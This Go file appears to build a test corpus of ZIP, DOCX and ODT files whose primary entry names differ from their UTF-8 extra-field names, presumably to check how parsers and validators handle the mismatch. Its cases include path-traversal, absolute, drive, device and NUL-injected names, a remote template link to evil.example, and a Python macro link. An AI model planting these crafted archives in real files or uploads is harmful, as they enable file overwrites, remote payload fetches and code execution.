package corpus

// twoNames are entries with a first name, which most programs unpack by, and a second one in UTF-8, which others take.
func twoNames() []File {
	entry := func(first, second, data string) zipEntry {
		return zipEntry{name: first, data: data, extra: secondName(second, first)}
	}
	template := relations(relation("attachedTemplate", "https://evil.example/t.dotm", ` TargetMode="External"`))
	macro := odfContent(`<text:a xlink:href="vnd.sun.star.script:x.py$f?language=Python&amp;location=share"/>`)
	return []File{
		archive("a first name that leads out", zipOf(entry("../a.txt", "a/a.txt", "x"))),
		archive("a first name that leads out on Windows", zipOf(entry(`..\a.txt`, "a.txt", "x"))),
		archive("a first name that is absolute", zipOf(entry("/a.txt", "a/a.txt", "x"))),
		archive("a first name with a drive", zipOf(entry("C:a.txt", "a.txt", "x"))),
		archive("a first name of a device", zipOf(entry("con.txt", "a.txt", "x"))),
		archive("a first name with a NUL", zipOf(entry("a.php\x00.txt", "a.txt", "x"))),
		archive("a first name that is a program's", zipOf(entry("a.php", "a.txt", "x"))),
		archive("a first name of a directory", zipOf(entry("a.txt/", "a.txt", "x"))),
		archive("a first name in another folder", zipOf(entry("x/a.txt", "a.txt", "x"))),
		archive("a first name of a book's type", zipOf(entry("mimetype", "m\u00efmetype", "application/epub+zip"))),
		badDocument("a first name that is another part's", docx(entry("word/_rels/settings.xml.rels", "word/_rels/media.xml.rels", template))),
		badDocument("a first name that is another part's, of the same look", docx(entry("word/_rels/settings.xml.rels", "word/\u00e4rels/settings.xml.rels", template))),
		{About: "a first name that is the content of a text", Name: "a.odt", Type: typeODT, Content: odf(typeODT, "", entry("settings.xml", "s\u00e9ttings.xml", macro)), Code: content},
	}
}
